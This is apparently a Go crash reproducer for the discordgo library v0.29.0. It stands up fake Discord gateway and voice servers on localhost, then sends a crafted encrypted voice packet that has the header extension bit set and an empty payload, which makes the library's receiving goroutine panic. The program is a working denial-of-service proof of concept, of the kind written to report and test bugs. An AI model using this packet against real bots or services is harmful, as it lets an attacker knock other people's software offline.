// crash: discordgo voice.go:466 github.com/bwmarrin/discordgo@v0.29.0
// The voice server sends a sealed packet whose header has the extension bit,
// and no payload: the receiving goroutine slices the empty payload.
package main

import (
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"time"

	"github.com/bwmarrin/discordgo"
	"github.com/gorilla/websocket"
	"golang.org/x/crypto/nacl/secretbox"
)

// voiceHost is the address of the voice server, udp its socket for sound.
var (
	voiceHost string
	udp       *net.UDPConn
)

func talk(w http.ResponseWriter, r *http.Request, f func(send func(string), recv func() string)) {
	c, err := new(websocket.Upgrader).Upgrade(w, r, nil)
	if err != nil {
		return
	}
	defer c.Close()
	f(func(s string) { c.WriteMessage(websocket.TextMessage, []byte(s)) },
		func() string {
			_, m, err := c.ReadMessage()
			if err != nil {
				time.Sleep(time.Minute)
			}
			return string(m)
		})
}

// gateway answers the question for the address of the gateway, and is it.
func gateway(w http.ResponseWriter, r *http.Request) {
	if !websocket.IsWebSocketUpgrade(r) {
		fmt.Fprintf(w, `{"url":"ws://%s/"}`, r.Host)
		return
	}
	talk(w, r, func(send func(string), recv func() string) {
		send(`{"op":10,"d":{"heartbeat_interval":40000}}`)
		recv()
		send(`{"op":0,"s":1,"t":"READY","d":{"v":9,"session_id":"x","user":{"id":"1"},"guilds":[]}}`)
		for {
			if !strings.Contains(recv(), `"op":4`) {
				continue
			}
			send(`{"op":0,"s":2,"t":"VOICE_STATE_UPDATE","d":{"guild_id":"5","channel_id":"6","user_id":"1","session_id":"y"}}`)
			time.Sleep(200 * time.Millisecond)
			send(`{"op":0,"s":3,"t":"VOICE_SERVER_UPDATE","d":{"guild_id":"5","token":"z","endpoint":"` + voiceHost + `"}}`)
		}
	})
}

// voice is the voice server. Its key is all zero.
func voice(w http.ResponseWriter, r *http.Request) {
	talk(w, r, func(send func(string), recv func() string) {
		recv()
		port := udp.LocalAddr().(*net.UDPAddr).Port
		send(fmt.Sprintf(`{"op":2,"d":{"ssrc":1,"port":%d,"ip":"127.0.0.1","modes":["xsalsa20_poly1305"],"heartbeat_interval":40000}}`, port))
		b := make([]byte, 100)
		n, from, err := udp.ReadFromUDP(b)
		if err != nil {
			return
		}
		copy(b[8:], "127.0.0.1")
		udp.WriteToUDP(b[:n], from)
		key := strings.Repeat("0,", 31) + "0"
		send(`{"op":4,"d":{"mode":"xsalsa20_poly1305","secret_key":[` + key + `]}}`)
		time.Sleep(500 * time.Millisecond)
		head := make([]byte, 12)
		head[0], head[1] = 0x90, 0x78
		var nonce [24]byte
		copy(nonce[:], head)
		udp.WriteToUDP(secretbox.Seal(head, nil, &nonce, new([32]byte)), from)
		for {
			recv()
		}
	})
}

// local sends every request to one host.
type local string

func (l local) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.URL.Scheme, r.URL.Host, r.Host = "http", string(l), string(l)
	return http.DefaultTransport.RoundTrip(r)
}

func main() {
	var err error
	udp, err = net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		fmt.Println(err)
		return
	}
	vs := httptest.NewTLSServer(http.HandlerFunc(voice))
	voiceHost = strings.TrimPrefix(vs.URL, "https://")
	srv := httptest.NewServer(http.HandlerFunc(gateway))
	s, err := discordgo.New("Bot token")
	if err != nil {
		fmt.Println(err)
		return
	}
	s.Client = &http.Client{Transport: local(strings.TrimPrefix(srv.URL, "http://"))}
	s.Dialer = &websocket.Dialer{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}
	if err := s.Open(); err != nil {
		fmt.Println(err)
		return
	}
	if _, err := s.ChannelVoiceJoin("5", "6", false, false); err != nil {
		fmt.Println(err)
	}
	time.Sleep(2 * time.Second)
	fmt.Println("survived")
}
